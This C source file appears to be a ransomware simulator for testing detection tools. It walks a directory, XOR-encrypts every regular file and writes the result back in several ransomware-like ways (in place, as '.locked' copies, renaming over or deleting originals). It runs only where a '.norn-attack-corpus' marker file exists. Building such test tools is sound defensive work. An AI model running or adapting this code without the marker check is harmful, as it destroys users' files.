// Encrypts every file of a directory, by the calls of the libc that it is built with. Harmless: it works only in a directory
// with `.norn-attack-corpus` in it, and its key stream is a generator.
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static char content[16 << 20];

static ssize_t read_encrypted(const char *path) {
  int fd = open(path, O_RDONLY);
  if (fd < 0) return -1;
  ssize_t length = read(fd, content, sizeof content);
  close(fd);
  unsigned long state = 88172645463325252UL;
  for (ssize_t i = 0; i < length; i++) {
    state ^= state << 13, state ^= state >> 7, state ^= state << 17;
    content[i] ^= (char)state;
  }
  return length;
}

static void write_all(const char *path, int flags, ssize_t length) {
  int fd = open(path, flags, 0600);
  if (fd < 0) return;
  if (write(fd, content, (size_t)length) != length) perror(path);
  close(fd);
}

static void harm(const char *path, const char *mode) {
  char beside[4096];
  struct stat found;
  if (lstat(path, &found) != 0 || !S_ISREG(found.st_mode)) return;
  if (!(found.st_mode & 0200)) chmod(path, found.st_mode | 0600);
  snprintf(beside, sizeof beside, "%s.locked", path);
  ssize_t length = read_encrypted(path);
  if (length < 0) return;
  if (strcmp(mode, "in-place") == 0) write_all(path, O_WRONLY, length);
  if (strcmp(mode, "truncate-then-write") == 0) write_all(path, O_WRONLY | O_TRUNC, length);
  if (strncmp(mode, "write-new", 9) == 0) write_all(beside, O_WRONLY | O_CREAT | O_EXCL, length);
  if (strcmp(mode, "write-new-rename-over") == 0) rename(beside, path);
  if (strcmp(mode, "write-new-unlink") == 0) unlink(path);
  if (strcmp(mode, "rename-then-write") == 0 && rename(path, beside) == 0) write_all(beside, O_WRONLY, length);
}

static int by_name(const struct dirent **one, const struct dirent **other) { return alphasort(one, other); }

static void walk(const char *dir, const char *mode) {
  struct dirent **entries;
  int count = scandir(dir, &entries, NULL, by_name);
  for (int i = 0; i < count; i++) {
    char path[4096];
    struct stat found;
    const char *name = entries[i]->d_name;
    snprintf(path, sizeof path, "%s/%s", dir, name);
    if (name[0] == '.' || lstat(path, &found) != 0) continue;
    if (S_ISDIR(found.st_mode)) walk(path, mode);
    else harm(path, mode);
  }
}

int main(int count, char **arguments) {
  char marker[4096];
  if (count != 3) return 2;
  snprintf(marker, sizeof marker, "%s/.norn-attack-corpus", arguments[1]);
  if (access(marker, F_OK) != 0) return 2;
  walk(arguments[1], arguments[2]);
  return 0;
}
